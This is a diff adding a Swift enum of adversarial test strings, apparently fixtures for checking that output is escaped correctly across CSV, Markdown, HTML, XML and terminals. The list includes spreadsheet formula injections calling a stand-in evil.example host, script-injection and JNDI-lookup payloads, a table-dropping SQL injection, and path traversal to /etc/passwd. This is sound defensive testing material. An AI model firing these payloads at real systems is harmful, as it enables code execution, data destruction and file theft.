@@ -1,0 +1,23 @@
+/// Texts that try to be more than text.
+public enum HostileText {
+  /// One after another; each is a name, a note, a path and whatever else others may choose.
+  public static let attacks = [
+    "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2", "@SUM(A1)", "\t=1", "\r=1",
+    "a,b;\"c\"", "| pipe | in | a | table |", "`code` ``two``", "``", "`",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>", "[link](http://evil.example)",
+    "![image](http://evil.example/x)",
+    "http://evil.example www.evil.example", "# heading", "* list", "1. list", "- list", "---",
+    "> quote", "    code", "~~~", "```", "\\", "a\\|b", "&lt;b&gt;", "line\nbreak\r\n# heading",
+    "\u{202E}gnp.exe", "\u{1B}[2J\u{1B}]0;title\u{7}", "\u{2028}\u{2029}\u{85}\u{B}\u{C}",
+    "\u{200B}",
+    "**bold** _it_ ~~gone~~ $math$ :x: #1 @user", "", " ",
+    "</style></title><script>alert(1)</script>", "]]><!-- --><?xml?>", "--><b>x</b>",
+    "javascript:alert(1)", "${jndi:ldap://evil.example/x} {0} {{1}}", "%n%s%00../../etc/passwd",
+    "\u{5E9}\u{5DC}\u{5D5}\u{5DD} 123 abc", "e\u{301}\u{1F469}\u{200D}\u{1F4BB}", "\u{3000}x\u{A0}",
+    "\0", "'; DROP TABLE users; --", "cmd|' /C calc'!A0", long,
+  ]
+
+  /// A name of 4 KB without a blank, with what each format must escape at its end.
+  public static let long = String(repeating: "longname", count: 511) + "<&\"'|"
+}
